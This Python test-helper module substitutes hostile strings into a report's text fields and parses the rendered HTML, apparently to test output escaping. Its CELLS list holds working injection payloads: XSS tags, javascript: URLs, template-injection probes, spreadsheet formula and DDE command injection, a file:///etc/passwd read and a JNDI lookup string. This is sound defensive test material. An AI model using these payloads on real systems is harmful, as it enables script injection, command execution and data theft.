"""Hostile cells: what a person could write into a workbook to get more out of a page than words."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from enum import Enum
from html.parser import HTMLParser
from typing import TypeVar

import reports
from reportgen.dataclass import fields, is_dataclass, replace
from reportgen.report import Report

Part = TypeVar("Part")

# Codes, weeks, dates, hashes: what the program writes itself and no cell can set.
OURS = re.compile(r"|[a-z0-9_./-]+|\d{4}-W?\d\d.*|SEK")


def poisoned(part: Part, texts: Iterator[str]) -> Part:
    """The same part of a report with `texts` in the places that a person's own words reach."""
    if isinstance(part, str) and not isinstance(part, Enum):
        return part if OURS.fullmatch(part) else next(texts)  # type: ignore[return-value]
    if isinstance(part, tuple):
        return tuple(poisoned(item, texts) for item in part)  # type: ignore[return-value]
    if is_dataclass(part) and not isinstance(part, type):
        changed = {name: poisoned(getattr(part, name), texts) for name in fields(part)}
        return replace(part, **changed)
    return part


def saying(*texts: str, of: Report | None = None) -> Report:
    """The sample, or another report, with `texts` in turn wherever it can hold words."""
    return poisoned(of or reports.sample(), itertools.cycle(texts))


class Read(HTMLParser):
    """Tags, attributes and text, as a browser would find them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


CELLS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload='alert(1)'>",
    "</title></style></svg><iframe src=//x.example>",
    "<!-- --><a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "{{ ''.__class__ }}",
    '=HYPERLINK("http://x.example","Se")',
    "=cmd|' /C calc'!A0",
    "]]><x/>&lt;b&gt;&amp;&#x41;",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "url(http://x.example/a.png)",
    "--></style>}*{background:url(http://x.example)}",
    "${jndi:ldap://x.example}%s%n\\u0041",
]
